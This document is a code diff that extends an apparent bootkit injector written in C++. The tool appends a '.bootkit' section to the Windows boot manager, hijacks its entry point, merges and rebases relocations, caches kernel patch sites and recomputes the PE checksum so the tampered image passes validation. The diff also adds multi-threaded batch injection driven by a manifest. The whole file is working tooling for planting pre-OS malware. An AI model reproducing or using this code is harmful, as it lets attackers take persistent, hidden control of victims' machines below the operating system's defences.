@@ -1,155 +1,626 @@
-#include <Windows.h>
-#include <vector>
-#include <fstream>
+#include <algorithm>
+#include <atomic>
+#include <chrono>
+#include <cinttypes>
 #include <cstdint>
+#include <cstdio>
 #include <cstdlib>
+#include <string>
+#include <thread>
+#include <vector>
 
-static std::vector<uint8_t> ReadAllBytes(const char* FileName)
-{
-    auto hFile = CreateFileA(FileName, GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0, nullptr);
-    if (hFile == INVALID_HANDLE_VALUE)
-    {
-        return {};
-    }
-    std::vector<uint8_t> data;
-    auto FileSize = GetFileSize(hFile, nullptr);
-    data.resize(FileSize);
-    DWORD BytesRead = 0;
-    if (!ReadFile(hFile, data.data(), FileSize, &BytesRead, nullptr))
-    {
-        data.clear();
-    }
-    CloseHandle(hFile);
-    return data;
-}
+#include "MappedFile.hpp"
+
+#ifndef _WIN32
+#include <cerrno>
+#include <fcntl.h>
+#include <unistd.h>
+#endif
 
+#include "Efi.hpp"
+#include "PatchCache.hpp"
+#include "PatchEngine.hpp"
+
+// The whole output is one buffer, so this is the only write
 static bool WriteAllBytes(const char* FileName, const std::vector<uint8_t>& Data)
 {
+#ifdef _WIN32
     auto hFile = CreateFileA(FileName, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
     if (hFile == INVALID_HANDLE_VALUE)
     {
         return false;
     }
     DWORD BytesWritten = 0;
-    auto success = !!WriteFile(hFile, Data.data(), (DWORD)Data.size(), &BytesWritten, nullptr);
+    auto Success = WriteFile(hFile, Data.data(), (DWORD)Data.size(), &BytesWritten, nullptr) && BytesWritten == Data.size();
     CloseHandle(hFile);
-    return success;
+    return Success;
+#else
+    auto Fd = open(FileName, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (Fd == -1)
+    {
+        return false;
+    }
+    size_t BytesWritten = 0;
+    while (BytesWritten < Data.size())
+    {
+        auto Result = write(Fd, Data.data() + BytesWritten, Data.size() - BytesWritten);
+        if (Result <= 0 && errno != EINTR)
+        {
+            break;
+        }
+        BytesWritten += Result > 0 ? (size_t)Result : 0;
+    }
+    auto Success = close(Fd) == 0 && BytesWritten == Data.size();
+    return Success;
+#endif
 }
 
-static PIMAGE_NT_HEADERS GetNtHeaders(void* ImageData)
+static uint32_t AlignSize(uint32_t Size, uint32_t Alignment)
 {
-    auto DosHeader = PIMAGE_DOS_HEADER(ImageData);
-    if (DosHeader->e_magic != IMAGE_DOS_SIGNATURE)
+    return (Size + Alignment - 1) / Alignment * Alignment;
+}
+
+static EFI_IMAGE_SECTION_HEADER* GetSections(EFI_IMAGE_NT_HEADERS64* NtHeaders)
+{
+    return RVA<EFI_IMAGE_SECTION_HEADER*>(&NtHeaders->OptionalHeader, NtHeaders->FileHeader.SizeOfOptionalHeader);
+}
+
+// File data of an RVA range, nullptr if it is not backed by a section in the file
+static const uint8_t* RvaToData(const MappedFile& File, uint32_t Rva, uint32_t Size)
+{
+    auto NtHeaders = GetNtHeaders((void*)File.Data());
+    auto Sections = GetSections(NtHeaders);
+    for (uint16_t i = 0; i < NtHeaders->FileHeader.NumberOfSections; i++)
     {
-        return nullptr;
+        auto& Section = Sections[i];
+        if (Rva >= Section.VirtualAddress && (uint64_t)Rva + Size <= (uint64_t)Section.VirtualAddress + Section.SizeOfRawData)
+        {
+            auto Offset = (uint64_t)Section.PointerToRawData + (Rva - Section.VirtualAddress);
+            return Offset + Size <= File.Size() ? File.Data() + Offset : nullptr;
+        }
     }
-    auto NtHeaders = PIMAGE_NT_HEADERS((char*)ImageData + DosHeader->e_lfanew);
-    if (NtHeaders->Signature != IMAGE_NT_SIGNATURE || NtHeaders->OptionalHeader.Magic != IMAGE_NT_OPTIONAL_HDR_MAGIC)
+    return nullptr;
+}
+
+// Appends relocation blocks to Relocs, with their page RVAs moved by RvaOffset
+static void CopyRelocations(std::vector<uint8_t>& Relocs, const uint8_t* Data, uint32_t Size, uint32_t RvaOffset)
+{
+    for (uint32_t Offset = 0; Offset + EFI_IMAGE_SIZEOF_BASE_RELOCATION <= Size;)
     {
-        return nullptr;
+        auto Block = (const EFI_IMAGE_BASE_RELOCATION*)(Data + Offset);
+        if (Block->SizeOfBlock < EFI_IMAGE_SIZEOF_BASE_RELOCATION || Offset + Block->SizeOfBlock > Size)
+        {
+            break;
+        }
+        auto Begin = Relocs.size();
+        Relocs.insert(Relocs.end(), Data + Offset, Data + Offset + Block->SizeOfBlock);
+        ((EFI_IMAGE_BASE_RELOCATION*)(Relocs.data() + Begin))->VirtualAddress += RvaOffset;
+        Offset += Block->SizeOfBlock;
     }
-    return NtHeaders;
 }
 
-static DWORD AlignSize(DWORD Size, DWORD Alignment)
+static bool CopyRelocations(std::vector<uint8_t>& Relocs, const MappedFile& File, uint32_t RvaOffset)
 {
-    // TODO: this is fugly
-    if (Size % Alignment)
-        Size = ((Size + Alignment) / Alignment) * Alignment;
-    return Size;
+    auto NtHeaders = GetNtHeaders((void*)File.Data());
+    auto DataDir = NtHeaders->OptionalHeader.DataDirectory[EFI_IMAGE_DIRECTORY_ENTRY_BASERELOC];
+    if (DataDir.VirtualAddress == 0 || DataDir.Size == 0)
+    {
+        return true;
+    }
+    auto Data = RvaToData(File, DataDir.VirtualAddress, DataDir.Size);
+    if (Data == nullptr)
+    {
+        return false;
+    }
+    CopyRelocations(Relocs, Data, DataDir.Size, RvaOffset);
+    return true;
 }
 
-static bool AppendBootkit(std::vector<uint8_t>& BootmgfwData, std::vector<uint8_t>& BootkitData)
+// Applies the DIR64 relocations of an image laid out with its RVAs as file offsets
+static bool RebaseImage(uint8_t* ImageData, size_t ImageSize, uint64_t NewImageBase)
 {
-    auto BootmgfwHeaders = GetNtHeaders(BootmgfwData.data());
-    if (BootmgfwHeaders == nullptr)
+    auto NtHeaders = GetNtHeaders(ImageData);
+    auto Delta = NewImageBase - NtHeaders->OptionalHeader.ImageBase;
+    auto DataDir = NtHeaders->OptionalHeader.DataDirectory[EFI_IMAGE_DIRECTORY_ENTRY_BASERELOC];
+    if ((size_t)DataDir.VirtualAddress + DataDir.Size > ImageSize)
     {
-        puts("[Injector] Invalid PE file (bootmgfw)");
         return false;
     }
+    for (uint32_t Offset = 0; Offset + EFI_IMAGE_SIZEOF_BASE_RELOCATION <= DataDir.Size;)
+    {
+        auto Block = (EFI_IMAGE_BASE_RELOCATION*)(ImageData + DataDir.VirtualAddress + Offset);
+        if (Block->SizeOfBlock < EFI_IMAGE_SIZEOF_BASE_RELOCATION || Offset + Block->SizeOfBlock > DataDir.Size)
+        {
+            break;
+        }
+        auto Entries = (uint16_t*)(Block + 1);
+        auto EntryCount = (Block->SizeOfBlock - EFI_IMAGE_SIZEOF_BASE_RELOCATION) / sizeof(uint16_t);
+        for (size_t i = 0; i < EntryCount; i++)
+        {
+            auto Type = Entries[i] >> 12;
+            auto Rva = (size_t)Block->VirtualAddress + (Entries[i] & 0xFFF);
+            if (Type == EFI_IMAGE_REL_BASED_ABSOLUTE)
+            {
+                continue;
+            }
+            if (Type != EFI_IMAGE_REL_BASED_DIR64 || Rva + sizeof(uint64_t) > ImageSize)
+            {
+                return false;
+            }
+            *(uint64_t*)(ImageData + Rva) += Delta;
+        }
+        Offset += Block->SizeOfBlock;
+    }
+    // Relocated by the firmware too, so the bootkit sees a zero delta at boot
+    NtHeaders->OptionalHeader.ImageBase = NewImageBase;
+    return true;
+}
 
-    auto BootkitHeaders = GetNtHeaders(BootkitData.data());
-    if (BootkitHeaders == nullptr)
+// The bootkit is parsed once and shared read-only by every injection
+struct BootkitImage
+{
+    std::vector<uint8_t> Image;  // Laid out at its RVAs, like the loader would
+    std::vector<uint8_t> Relocs; // Relocation blocks at the bootkit's own RVAs
+};
+
+static const char* ParseBootkit(const MappedFile& File, BootkitImage& Bootkit)
+{
+    auto SizeOfImage = GetImageFileSize(File.Data(), File.Size());
+    if (SizeOfImage == 0)
     {
-        puts("[Injector] Invalid PE file (bootkit)");
-        return false;
+        return "Invalid PE file (bootkit)";
+    }
+
+    auto NtHeaders = GetNtHeaders((void*)File.Data());
+    if (NtHeaders->OptionalHeader.SectionAlignment != 0x1000)
+    {
+        return "Bootkit not compiled with /ALIGN:0x1000";
+    }
+
+    // Zero-initialized data is not in the file (VirtualSize > SizeOfRawData), so the file is not the image
+    Bootkit.Image.assign(SizeOfImage, 0);
+    if (!MapImageFile(File.Data(), File.Size(), Bootkit.Image.data(), Bootkit.Image.size()))
+    {
+        return "Invalid sections (bootkit)";
+    }
+
+    Bootkit.Relocs.clear();
+    auto DataDir = GetNtHeaders(Bootkit.Image.data())->OptionalHeader.DataDirectory[EFI_IMAGE_DIRECTORY_ENTRY_BASERELOC];
+    if (DataDir.VirtualAddress != 0 && DataDir.Size != 0)
+    {
+        if ((uint64_t)DataDir.VirtualAddress + DataDir.Size > SizeOfImage)
+        {
+            return "Invalid relocations (bootkit)";
+        }
+
+        CopyRelocations(Bootkit.Relocs, Bootkit.Image.data() + DataDir.VirtualAddress, DataDir.Size, 0);
+    }
+
+    return nullptr;
+}
+
+// Builds the injected image in Output, which is sized once and written to directly
+static const char* AppendBootkit(const MappedFile& Bootmgfw, const BootkitImage& Bootkit, std::vector<uint8_t>& Output, uint32_t& SectionRva)
+{
+    if (GetImageFileSize(Bootmgfw.Data(), Bootmgfw.Size()) == 0)
+    {
+        return "Invalid PE file (bootmgfw)";
     }
 
+    // The inputs are shared read-only, the headers are only modified in the output
+    auto BootmgfwHeaders = GetNtHeaders((void*)Bootmgfw.Data());
+    auto BootkitHeaders = GetNtHeaders((void*)Bootkit.Image.data());
     auto SectionAlignment = BootkitHeaders->OptionalHeader.SectionAlignment;
-    auto FileAlignment = BootkitHeaders->OptionalHeader.FileAlignment;
-    if (SectionAlignment != 0x1000 || FileAlignment != 0x1000)
+
+    auto Sections = GetSections(BootmgfwHeaders);
+    auto NumberOfSections = BootmgfwHeaders->FileHeader.NumberOfSections;
+    if ((size_t)((const uint8_t*)&Sections[NumberOfSections + 1] - Bootmgfw.Data()) > BootmgfwHeaders->OptionalHeader.SizeOfHeaders)
     {
-        puts("[Injector] Bootkit not compiled with /FILEALIGN:0x1000 /ALIGN:0x1000");
-        return false;
+        return "No room for another section header";
     }
 
+    auto SectionVirtualAddress = Sections[NumberOfSections - 1].VirtualAddress + AlignSize(Sections[NumberOfSections - 1].Misc.VirtualSize, BootmgfwHeaders->OptionalHeader.SectionAlignment);
+    uint32_t AlignmentSize = 0x1000;
+    auto BootkitBase = SectionVirtualAddress + AlignmentSize;
+
+    // Merge the relocations of bootmgfw and the bootkit (moved to its final RVA) into a single table
+    // The firmware loader applies it in one pass, the bootkit does not have to relocate itself anymore
+    std::vector<uint8_t> Relocs;
+    if (!CopyRelocations(Relocs, Bootmgfw, 0))
+    {
+        return "Invalid relocations (bootmgfw)";
+    }
+    CopyRelocations(Relocs, Bootkit.Relocs.data(), (uint32_t)Bootkit.Relocs.size(), BootkitBase);
+
+    // The bootkit checks its own ImageBase field to know the relocations were applied
+    auto ImageBaseRva = BootkitBase + (uint32_t)((const uint8_t*)&BootkitHeaders->OptionalHeader.ImageBase - Bootkit.Image.data());
+    EFI_IMAGE_BASE_RELOCATION ImageBaseBlock = { ImageBaseRva & ~0xFFFu, EFI_IMAGE_SIZEOF_BASE_RELOCATION + 2 * sizeof(uint16_t) };
+    uint16_t ImageBaseEntries[] = { (uint16_t)((EFI_IMAGE_REL_BASED_DIR64 << 12) | (ImageBaseRva & 0xFFF)), EFI_IMAGE_REL_BASED_ABSOLUTE };
+    Relocs.insert(Relocs.end(), (uint8_t*)&ImageBaseBlock, (uint8_t*)(&ImageBaseBlock + 1));
+    Relocs.insert(Relocs.end(), (uint8_t*)ImageBaseEntries, (uint8_t*)(ImageBaseEntries + 2));
+
+    // Section layout: padding page (patch cache), bootkit image (in memory layout, so file offsets are RVAs), merged relocation table
+    auto BootkitSize = AlignSize((uint32_t)Bootkit.Image.size(), SectionAlignment);
+    auto RelocsOffset = AlignmentSize + BootkitSize;
+    auto SectionSize = AlignSize(RelocsOffset + (uint32_t)Relocs.size(), BootmgfwHeaders->OptionalHeader.FileAlignment);
+    auto SectionOffset = (uint32_t)Bootmgfw.Size();
+
+    Output.resize((size_t)SectionOffset + SectionSize);
+    auto SectionData = Output.data() + SectionOffset;
+    auto BootkitData = SectionData + AlignmentSize;
+    memcpy(Output.data(), Bootmgfw.Data(), Bootmgfw.Size());
+    memset(SectionData, 0xCC, AlignmentSize);
+    memcpy(BootkitData, Bootkit.Image.data(), Bootkit.Image.size());
+    memcpy(SectionData + RelocsOffset, Relocs.data(), Relocs.size());
+
     // Put the original entry point in the bootkit headers
+    BootmgfwHeaders = GetNtHeaders(Output.data());
+    BootkitHeaders = GetNtHeaders(BootkitData);
     auto BootkitEntryPoint = BootkitHeaders->OptionalHeader.AddressOfEntryPoint;
     BootkitHeaders->OptionalHeader.AddressOfEntryPoint = BootmgfwHeaders->OptionalHeader.AddressOfEntryPoint;
 
-    std::vector<uint8_t> SectionData;
-    auto AlignmentSize = 0x1000;
-    SectionData.resize(AlignmentSize, 0xCC);
-    BootkitData.resize(AlignSize((DWORD)BootkitData.size(), FileAlignment));
-    SectionData.insert(SectionData.end(), BootkitData.begin(), BootkitData.end());
+    if (!RebaseImage(BootkitData, BootkitSize, BootmgfwHeaders->OptionalHeader.ImageBase + BootkitBase))
+    {
+        return "Failed to rebase the bootkit";
+    }
 
     // Create the new section
-    auto Sections = IMAGE_FIRST_SECTION(BootmgfwHeaders);
-    auto NumberOfSections = BootmgfwHeaders->FileHeader.NumberOfSections;
-    IMAGE_SECTION_HEADER NewSection = {};
+    EFI_IMAGE_SECTION_HEADER NewSection = {};
     memcpy(NewSection.Name, ".bootkit", 8);
-    NewSection.SizeOfRawData = (DWORD)SectionData.size();
-    NewSection.PointerToRawData = (DWORD)BootmgfwData.size();
-    NewSection.Misc.VirtualSize = AlignSize((DWORD)SectionData.size(), SectionAlignment);
-    NewSection.Characteristics = IMAGE_SCN_MEM_READ | IMAGE_SCN_MEM_WRITE | IMAGE_SCN_MEM_EXECUTE | IMAGE_SCN_CNT_CODE;
-    NewSection.VirtualAddress = Sections[NumberOfSections - 1].VirtualAddress + AlignSize(Sections[NumberOfSections - 1].Misc.VirtualSize, BootmgfwHeaders->OptionalHeader.SectionAlignment);
+    NewSection.SizeOfRawData = SectionSize;
+    NewSection.PointerToRawData = SectionOffset;
+    NewSection.Misc.VirtualSize = AlignSize(SectionSize, SectionAlignment);
+    NewSection.Characteristics = EFI_IMAGE_SCN_MEM_READ | EFI_IMAGE_SCN_MEM_WRITE | EFI_IMAGE_SCN_MEM_EXECUTE | EFI_IMAGE_SCN_CNT_CODE;
+    NewSection.VirtualAddress = SectionVirtualAddress;
 
     // Adjust the headers
-    auto BootkitBase = NewSection.VirtualAddress + AlignmentSize;
+    auto& RelocDir = BootmgfwHeaders->OptionalHeader.DataDirectory[EFI_IMAGE_DIRECTORY_ENTRY_BASERELOC];
+    RelocDir.VirtualAddress = SectionVirtualAddress + RelocsOffset;
+    RelocDir.Size = (uint32_t)Relocs.size();
     BootmgfwHeaders->OptionalHeader.AddressOfEntryPoint = BootkitBase + BootkitEntryPoint;
-    BootmgfwHeaders->OptionalHeader.SizeOfImage += NewSection.Misc.VirtualSize;
+    BootmgfwHeaders->OptionalHeader.SizeOfImage = SectionVirtualAddress + NewSection.Misc.VirtualSize;
     BootmgfwHeaders->FileHeader.NumberOfSections++;
-    Sections[NumberOfSections] = NewSection;
+    GetSections(BootmgfwHeaders)[NumberOfSections] = NewSection;
+    SectionRva = SectionVirtualAddress;
+
+    return nullptr;
+}
+
+// PE checksum: 16-bit one's complement sum of the file without the CheckSum field, plus the file size
+static uint32_t ComputeChecksum(const uint8_t* Data, size_t Size)
+{
+    auto NtHeaders = GetNtHeaders((void*)Data);
+    auto CheckSumOffset = (size_t)((const uint8_t*)&NtHeaders->OptionalHeader.CheckSum - Data);
+
+    uint64_t Sum = 0;
+    size_t Offset = 0;
+    auto WordMask = _mm_set1_epi32(0xFFFF);
+    auto Zero = _mm_setzero_si128();
+    while (Offset + 16 <= Size)
+    {
+        // Every iteration adds at most 2 * 0xFFFF to a 32-bit lane, 4096 of them cannot overflow it
+        auto BlockEnd = Offset + std::min<size_t>((Size - Offset) & ~(size_t)15, 4096 * 16);
+        auto Lanes = _mm_setzero_si128();
+        for (; Offset < BlockEnd; Offset += 16)
+        {
+            auto Words = _mm_loadu_si128((const __m128i*)(Data + Offset));
+            Lanes = _mm_add_epi32(Lanes, _mm_add_epi32(_mm_and_si128(Words, WordMask), _mm_srli_epi32(Words, 16)));
+        }
+        auto Wide = _mm_add_epi64(_mm_unpacklo_epi32(Lanes, Zero), _mm_unpackhi_epi32(Lanes, Zero));
+        Sum += (uint64_t)_mm_cvtsi128_si64(Wide) + (uint64_t)_mm_cvtsi128_si64(_mm_unpackhi_epi64(Wide, Wide));
+    }
+    for (; Offset + 2 <= Size; Offset += 2)
+    {
+        Sum += *(const uint16_t*)(Data + Offset);
+    }
+    if (Offset < Size)
+    {
+        Sum += Data[Offset];
+    }
 
-    // Append the section data to the file
-    BootmgfwData.insert(BootmgfwData.end(), SectionData.begin(), SectionData.end());
+    // Take the CheckSum field back out of the sum
+    for (size_t i = CheckSumOffset; i < CheckSumOffset + sizeof(uint32_t); i++)
+    {
+        Sum -= (uint64_t)Data[i] << ((i & 1) * 8);
+    }
 
-    // TODO: fix up the checksum?
+    // Folding the total once is the same as folding the carry after every word
+    while (Sum >> 16)
+    {
+        Sum = (Sum & 0xFFFF) + (Sum >> 16);
+    }
+
+    return (uint32_t)Sum + (uint32_t)Size;
+}
+
+static bool WritePatchCache(std::vector<uint8_t>& BootmgfwData, const PatchCache& Cache)
+{
+    auto BootmgfwHeaders = GetNtHeaders(BootmgfwData.data());
+    if (BootmgfwHeaders == nullptr)
+    {
+        return false;
+    }
+
+    // The cache goes in the padding page in front of the bootkit image
+    auto Sections = GetSections(BootmgfwHeaders);
+    auto& BootkitSection = Sections[BootmgfwHeaders->FileHeader.NumberOfSections - 1];
+    if (memcmp(BootkitSection.Name, ".bootkit", 8) != 0 || BootkitSection.SizeOfRawData < PatchCacheOffset)
+    {
+        return false;
+    }
+
+    memcpy(BootmgfwData.data() + BootkitSection.PointerToRawData, &Cache, sizeof(Cache));
 
     return true;
 }
 
+struct InjectJob
+{
+    std::string Bootmgfw;
+    std::string Output;
+    std::string Ntoskrnl; // Optional
+};
+
+struct InjectResult
+{
+    const char* Error = nullptr; // nullptr on success
+    uint32_t SectionRva = 0;
+    bool BootmgfwCached = false;
+    bool NtoskrnlCached = false;
+    double Microseconds = 0;
+    uint64_t OutputHash = 0;
+};
+
+// FNV-1a of the written image, to compare outputs between runs
+static uint64_t HashBytes(const std::vector<uint8_t>& Data)
+{
+    uint64_t Hash = 0xcbf29ce484222325;
+    for (auto Byte : Data)
+    {
+        Hash = (Hash ^ Byte) * 0x100000001b3;
+    }
+    return Hash;
+}
+
+static void Inject(const InjectJob& Job, const BootkitImage& Bootkit, InjectResult& Result)
+{
+    auto StartTime = std::chrono::steady_clock::now();
+    Result = {};
+
+    MappedFile BootmgfwFile;
+    if (!BootmgfwFile.Open(Job.Bootmgfw))
+    {
+        Result.Error = "Failed to read bootmgfw";
+        return;
+    }
+    PatchCache Cache = {};
+    Cache.Magic = PatchCacheMagic;
+    Cache.Version = PatchCacheVersion;
+    if (!Job.Ntoskrnl.empty())
+    {
+        MappedFile NtoskrnlFile;
+        if (!NtoskrnlFile.Open(Job.Ntoskrnl))
+        {
+            Result.Error = "Failed to read ntoskrnl";
+            return;
+        }
+        Result.NtoskrnlCached = ResolvePatchCacheEntry(PatchCacheNtoskrnl, NtoskrnlFile.Data(), NtoskrnlFile.Size(), Cache.Entries[PatchCacheNtoskrnl]);
+    }
+    std::vector<uint8_t> BootmgfwData;
+    Result.Error = AppendBootkit(BootmgfwFile, Bootkit, BootmgfwData, Result.SectionRva);
+    if (Result.Error != nullptr)
+    {
+        return;
+    }
+    // Resolved after the injection so the key matches the headers seen at boot. .bootkit is left out like at boot,
+    // it holds the patch tables and their signatures would match as well
+    Result.BootmgfwCached = ResolvePatchCacheEntry(PatchCacheBootmgfw, BootmgfwData.data(), BootmgfwData.size(), Cache.Entries[PatchCacheBootmgfw], Result.SectionRva);
+    if (Result.BootmgfwCached)
+    {
+        // The checksum of the injected image covers the cache itself
+        Cache.Entries[PatchCacheBootmgfw].CheckSum = 0;
+    }
+    if (!WritePatchCache(BootmgfwData, Cache))
+    {
+        Result.Error = "Failed to write the patch cache";
+        return;
+    }
+    // Last, the checksum covers the cache as well
+    GetNtHeaders(BootmgfwData.data())->OptionalHeader.CheckSum = ComputeChecksum(BootmgfwData.data(), BootmgfwData.size());
+    if (!WriteAllBytes(Job.Output.c_str(), BootmgfwData))
+    {
+        Result.Error = "Failed to write the output";
+        return;
+    }
+    Result.OutputHash = HashBytes(BootmgfwData);
+    Result.Microseconds = std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - StartTime).count();
+}
+
+// Manifest lines: bootmgfw.original bootmgfw.injected [ntoskrnl.exe], paths with spaces in double quotes
+static bool ReadManifest(const MappedFile& File, std::vector<InjectJob>& Jobs)
+{
+    auto Data = (const char*)File.Data();
+    auto End = Data + File.Size();
+    size_t LineNumber = 0;
+    while (Data < End)
+    {
+        LineNumber++;
+        std::vector<std::string> Fields;
+        while (Data < End && *Data != '\n')
+        {
+            if (*Data == ' ' || *Data == '\t' || *Data == '\r')
+            {
+                Data++;
+            }
+            else if (*Data == '#' && Fields.empty())
+            {
+                while (Data < End && *Data != '\n')
+                {
+                    Data++;
+                }
+            }
+            else
+            {
+                auto Quoted = *Data == '"';
+                auto Start = Quoted ? ++Data : Data;
+                while (Data < End && *Data != '\n' && (Quoted ? *Data != '"' : *Data != ' ' && *Data != '\t' && *Data != '\r'))
+                {
+                    Data++;
+                }
+                Fields.emplace_back(Start, Data);
+                if (Quoted && Data < End && *Data == '"')
+                {
+                    Data++;
+                }
+            }
+        }
+        Data++;
+        if (Fields.empty())
+        {
+            continue;
+        }
+        if (Fields.size() < 2 || Fields.size() > 3)
+        {
+            printf("[Injector] Manifest line %zu: expected bootmgfw.original bootmgfw.injected [ntoskrnl.exe]\n", LineNumber);
+            return false;
+        }
+        Jobs.push_back({ Fields[0], Fields[1], Fields.size() > 2 ? Fields[2] : std::string() });
+    }
+    return true;
+}
+
+// Workers take the next job from a shared counter until all are done, the results are reported in manifest order
+static int InjectBatch(const char* BootkitPath, const char* ManifestPath, size_t ThreadCount)
+{
+    MappedFile BootkitFile;
+    if (!BootkitFile.Open(BootkitPath))
+    {
+        printf("[Injector] Failed to read '%s'\n", BootkitPath);
+        return EXIT_FAILURE;
+    }
+    BootkitImage Bootkit;
+    if (auto Error = ParseBootkit(BootkitFile, Bootkit))
+    {
+        printf("[Injector] %s\n", Error);
+        return EXIT_FAILURE;
+    }
+    MappedFile ManifestFile;
+    std::vector<InjectJob> Jobs;
+    if (!ManifestFile.Open(ManifestPath) || !ReadManifest(ManifestFile, Jobs))
+    {
+        printf("[Injector] Failed to read the manifest '%s'\n", ManifestPath);
+        return EXIT_FAILURE;
+    }
+    std::vector<InjectResult> Results(Jobs.size());
+    std::atomic<size_t> NextJob(0);
+    auto Worker = [&]
+    {
+        for (auto i = NextJob++; i < Jobs.size(); i = NextJob++)
+        {
+            Inject(Jobs[i], Bootkit, Results[i]);
+        }
+        // Resolving the patch caches allocated the xref storage of this thread
+        ShutdownPatchEngine();
+    };
+    auto StartTime = std::chrono::steady_clock::now();
+    std::vector<std::thread> Threads;
+    for (size_t i = 1; i < std::min(ThreadCount, Jobs.size()); i++)
+    {
+        Threads.emplace_back(Worker);
+    }
+    Worker();
+    for (auto& Thread : Threads)
+    {
+        Thread.join();
+    }
+    auto Microseconds = std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - StartTime).count();
+    // Tab separated, one line per manifest entry
+    puts("result\tsection_rva\tbootmgfw_cache\tntoskrnl_cache\tmicroseconds\tfnv1a64\toutput");
+    size_t Failed = 0;
+    for (size_t i = 0; i < Jobs.size(); i++)
+    {
+        auto& Result = Results[i];
+        Failed += Result.Error != nullptr;
+        printf("%s\t0x%" PRIx32 "\t%d\t%d\t%.0f\t%016" PRIx64 "\t%s\n",
+            Result.Error != nullptr ? Result.Error : "ok",
+            Result.SectionRva,
+            Result.BootmgfwCached,
+            Result.NtoskrnlCached,
+            Result.Microseconds,
+            Result.OutputHash,
+            Jobs[i].Output.c_str());
+    }
+    fprintf(stderr, "[Injector] %zu of %zu injected in %.0f us (%zu threads)\n", Jobs.size() - Failed, Jobs.size(), Microseconds, std::max<size_t>(std::min(ThreadCount, Jobs.size()), 1));
+    return Failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
+}
+
+// Only compares the stored checksums, for pipelines that validate their outputs
+static int VerifyChecksums(int Count, char** Paths)
+{
+    auto Failed = 0;
+    for (int i = 0; i < Count; i++)
+    {
+        MappedFile File;
+        if (!File.Open(Paths[i]) || GetImageFileSize(File.Data(), File.Size()) == 0)
+        {
+            printf("invalid\t-\t-\t%s\n", Paths[i]);
+            Failed++;
+            continue;
+        }
+        auto Stored = GetNtHeaders((void*)File.Data())->OptionalHeader.CheckSum;
+        auto Computed = ComputeChecksum(File.Data(), File.Size());
+        printf("%s\t0x%08" PRIx32 "\t0x%08" PRIx32 "\t%s\n", Stored == Computed ? "ok" : "mismatch", Stored, Computed, Paths[i]);
+        Failed += Stored != Computed;
+    }
+    return Failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
+}
+
 int main(int argc, char** argv)
 {
+    if (argc >= 3 && strcmp(argv[1], "--verify") == 0)
+    {
+        return VerifyChecksums(argc - 2, argv + 2);
+    }
+    if (argc >= 4 && strcmp(argv[1], "--batch") == 0)
+    {
+        auto ThreadCount = argc > 4 ? (size_t)strtoull(argv[4], nullptr, 0) : (size_t)std::thread::hardware_concurrency();
+        return InjectBatch(argv[2], argv[3], std::max<size_t>(ThreadCount, 1));
+    }
     if (argc < 4)
     {
-        puts("Usage: Injector bootmgfw.original bootkit.efi bootmgfw.injected");
+        puts("Usage: Injector bootmgfw.original bootkit.efi bootmgfw.injected [ntoskrnl.exe]");
+        puts("       Injector --batch bootkit.efi manifest.txt [threads]");
+        puts("       Injector --verify image.efi...");
+        puts("Manifest lines: bootmgfw.original bootmgfw.injected [ntoskrnl.exe]");
         return EXIT_FAILURE;
     }
-    auto BootmgfwOriginal = argv[1];
-    auto Bootkit = argv[2];
-    auto BootmgfwInjected = argv[3];
-    auto BootmgfwData = ReadAllBytes(BootmgfwOriginal);
-    if (BootmgfwData.empty())
+    MappedFile BootkitFile;
+    if (!BootkitFile.Open(argv[2]))
     {
-        printf("[Injector] Failed to read '%s'\n", BootmgfwOriginal);
+        printf("[Injector] Failed to read '%s'\n", argv[2]);
         return EXIT_FAILURE;
     }
-    auto BootkitData = ReadAllBytes(Bootkit);
-    if (BootkitData.empty())
+    BootkitImage Bootkit;
+    if (auto Error = ParseBootkit(BootkitFile, Bootkit))
     {
-        printf("[Injector] Failed to read '%s'\n", Bootkit);
+        printf("[Injector] %s\n", Error);
         return EXIT_FAILURE;
     }
-    if (!AppendBootkit(BootmgfwData, BootkitData))
+    InjectJob Job = { argv[1], argv[3], argc > 4 ? argv[4] : "" };
+    InjectResult Result;
+    Inject(Job, Bootkit, Result);
+    if (Result.Error != nullptr)
     {
-        puts("[Injector] Failed to inject .bootkit section");
+        printf("[Injector] %s\n", Result.Error);
         return EXIT_FAILURE;
     }
-    if (!WriteAllBytes(BootmgfwInjected, BootmgfwData))
+    if (!Job.Ntoskrnl.empty() && !Result.NtoskrnlCached)
     {
-        printf("[Injector] Failed to write '%s'\n", BootmgfwInjected);
-        return EXIT_FAILURE;
+        puts("[Injector] Failed to resolve the ntoskrnl patch sites, they will be scanned at boot");
+    }
+    if (!Result.BootmgfwCached)
+    {
+        puts("[Injector] Failed to resolve the bootmgfw patch sites, they will be scanned at boot");
     }
     puts("[Injector] Bootkit injected!");
     return EXIT_SUCCESS;